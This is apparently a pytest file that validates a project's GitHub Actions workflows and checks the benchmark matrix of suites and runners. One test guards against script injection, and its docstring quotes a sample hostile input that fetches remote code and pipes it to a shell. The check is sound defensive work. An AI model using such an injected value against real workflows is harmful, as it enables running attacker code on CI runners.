"""The CI workflows: valid against GitHub's workflow schema, and the commands they run work here."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[1]
WORKFLOWS = sorted((ROOT / ".github" / "workflows").glob("*.yml"))


@pytest.mark.parametrize("workflow", WORKFLOWS, ids=lambda p: p.name)
def test_workflow_validates_against_github_s_schema(workflow):
    checker = shutil.which("check-jsonschema", path=str(Path(__import__("sys").executable).parent))
    out = subprocess.run([checker, "--builtin-schema", "vendor.github-workflows", str(workflow)],
                         capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stdout + out.stderr


def test_the_workflows_do_what_ci_needs():
    tests = yaml.safe_load((ROOT / ".github/workflows/tests.yml").read_text())
    bench = yaml.safe_load((ROOT / ".github/workflows/benchmark.yml").read_text())
    on_tests, on_bench = tests[True], bench[True]  # YAML reads the key `on` as true
    assert {"push", "pull_request"} <= set(on_tests)
    steps = tests["jobs"]["tests"]["steps"]
    assert any("upload-artifact" in s.get("uses", "") and s["with"]["path"] == "test-report.html" for s in steps)
    assert set(on_bench["workflow_dispatch"]["inputs"]) >= {"suite", "runner", "model", "attempts", "tasks"}
    matrix = tests["jobs"]["prepare"]["strategy"]["matrix"]
    assert set(matrix["suite"]) == {p.name for p in (ROOT / "suites").iterdir() if (p / "suite.toml").exists()}


@pytest.mark.parametrize("workflow", WORKFLOWS, ids=lambda p: p.name)
def test_no_expression_is_pasted_into_a_script(workflow):
    """`${{ ... }}` inside `run:` is substituted into the script's text before the shell reads it,
    so an input such as `x"; curl evil | sh; "` would run: inputs go through `env:` instead."""
    for job_name, job in yaml.safe_load(workflow.read_text())["jobs"].items():
        for step in job.get("steps", []):
            assert "${{" not in step.get("run", ""), f"{workflow.name}: job {job_name}, step {step.get('name')!r}"


PREPARE = [(s, r) for s in ("local-web", "public-web", "clawbench", "clawbench-local") for r in ("reference", "codex", "claude", "pi")
           if (s, r) not in (("public-web", "reference"), ("clawbench", "reference"))]
JUDGES = {("clawbench-local", "reference"): "openai/gpt-4o-mini"}


def test_the_prepare_job_s_matrix_is_the_one_tested_here():
    matrix = yaml.safe_load((ROOT / ".github" / "workflows" / "tests.yml").read_text())["jobs"]["prepare"]["strategy"]["matrix"]
    combos = {(s, r) for s in matrix["suite"] for r in matrix["runner"]} - {(e["suite"], e["runner"]) for e in matrix.get("exclude", [])}
    assert combos == set(PREPARE)
    assert {(i["suite"], i["runner"]): i["judge"] for i in matrix.get("include", [])} == JUDGES


@pytest.mark.parametrize("suite, runner", PREPARE)
def test_the_prepare_job_s_command_plans_every_trial(pytester, suite, runner):
    judge = ("--judge-model", JUDGES[(suite, runner)]) if (suite, runner) in JUDGES else ()
    result = pytester.runpytest_subprocess("--suite", str(ROOT / "suites" / suite), "--runner", runner, "--attempts", "5",
                                           "--collect-only", "-q", f"--results-dir={pytester.path / 'prepared'}", *judge)
    assert result.ret == 0, result.stderr.str()
    items = [line for line in result.stdout.lines if "::test_trial[" in line]
    assert len(items) == trials_on_disk(suite) * 5


def trials_on_disk(suite: str) -> int:
    """Task x arm, counted from the suite's own files rather than by the plugin's loader: each task
    folder, or each case (the suite's cases folder, else the pinned package's v2 set), in the
    suite's arms, treatment only where a tool batch covers it (the task's own, or its site's) or
    the task is the placebo."""
    import importlib.util
    import json
    import tomllib

    root = ROOT / "suites" / suite
    spec = tomllib.loads((root / "suite.toml").read_text())
    batches = {name for name, site in spec.get("sites", {}).items() if site.get("tool_batch")}
    covered: list[bool] = []
    for toml in sorted((root / "tasks").glob("*/task.toml")):
        meta = tomllib.loads(toml.read_text())["metadata"]["webbench"]
        covered.append(bool(meta.get("tool_batch") or meta.get("placebo")))
    if "clawbench" in spec:
        cases = root / spec["clawbench"]["cases"] if "cases" in spec["clawbench"] else \
            Path(importlib.util.find_spec("clawbench").origin).parent / "_bundled" / "test-cases" / "v2"
        for case in sorted(cases.glob("*/task.json")):
            covered.append(json.loads(case.read_text())["metadata"].get("platform") in batches)
    assert covered, f"{suite}: no task found on disk"
    return sum(len([a for a in spec["arms"] if a != "treatment" or has]) for has in covered)
